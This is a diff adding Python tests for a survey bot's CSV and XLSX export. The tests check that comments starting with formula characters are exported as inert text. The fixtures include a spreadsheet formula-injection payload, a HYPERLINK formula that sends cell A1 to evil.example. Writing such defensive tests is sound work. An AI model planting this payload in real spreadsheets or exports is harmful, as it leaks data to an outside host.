@@ -13,7 +13,7 @@ from sqlmodel import select
 
 from bot.settings import REPO_ROOT
 from store.db import make_engine, make_session_factory
-from store.exports import MappingError, export_table, import_surveys, load_mapping
+from store.exports import MappingError, csv_safe, export_table, import_surveys, load_mapping
 from store.indicator import IndicatorConfig, compute_kpi, parse_period
 from store.models import SurveyItemScore, SurveyResponse
 from tests.reports.helpers import add_case, add_response
@@ -154,3 +154,45 @@ async def test_xlsx_export_opens_with_thai_headers(store: Store, tmp_path: Path)
     header = [c.value for c in next(ws.iter_rows(max_row=1))]
     assert header[:4] == ["id", "submitted_at", "visit_date", "service_type"]
     assert "item.process.p1" in header and "item.confidence.c1" in header
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")', "+1+2", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+async def test_exported_comments_never_become_formulas(store: Store, tmp_path: Path, suffix: str) -> None:
+    """Imported comments starting with = + - @ export as inert text, never as live formulas, and come back
+    unchanged when the export is imported again."""
+    header, first = _forms_rows()[:2]
+    source = tmp_path / "forms.csv"
+    with source.open("w", encoding="utf-8", newline="") as fh:
+        csv.writer(fh).writerows([header, *([*first[:-1], text] for text in FORMULAS)])
+    async with store.sessions() as s:
+        assert (await import_surveys(s, path=source, mapping=load_mapping(FORMS), now=NOW)).imported == len(FORMULAS)
+        await s.commit()
+    out = tmp_path / f"surveys{suffix}"
+    async with store.sessions() as s:
+        assert await export_table(s, what="surveys", out=out) == len(FORMULAS)
+        stored = sorted(str(r.comment) for r in (await s.exec(select(SurveyResponse))).all())
+    assert all(text.startswith(("=", "+", "-", "@")) for text in stored)  # the import trims leading blanks
+    if suffix == ".csv":
+        with out.open(encoding="utf-8-sig", newline="") as fh:
+            comments = [row["comment"] for row in csv.DictReader(fh)]
+        assert sorted(comments) == ["'" + text for text in stored]
+    else:
+        ws = load_workbook(out).active
+        assert ws is not None
+        column = [c.value for c in next(ws.iter_rows(max_row=1))].index("comment") + 1
+        cells = [ws.cell(row=r, column=column) for r in range(2, ws.max_row + 1)]
+        assert {c.data_type for c in cells} == {"s"}
+        assert sorted(str(c.value) for c in cells) == stored
+    async with store.sessions() as s:
+        again = await import_surveys(s, path=out, mapping=load_mapping(OWN), now=NOW)
+        await s.commit()
+        comments = sorted(str(r.comment) for r in (await s.exec(select(SurveyResponse))).all())
+    assert again.imported == len(FORMULAS) and comments == sorted(stored * 2)
+
+
+def test_csv_escapes_tab_and_carriage_return_starts() -> None:
+    """A text starting with a tab or CR (which some spreadsheets skip before a formula) is escaped too."""
+    assert [csv_safe(v) for v in ("\t=1", "\r=1", "ดี", 5, -1)] == ["'\t=1", "'\r=1", "ดี", 5, -1]
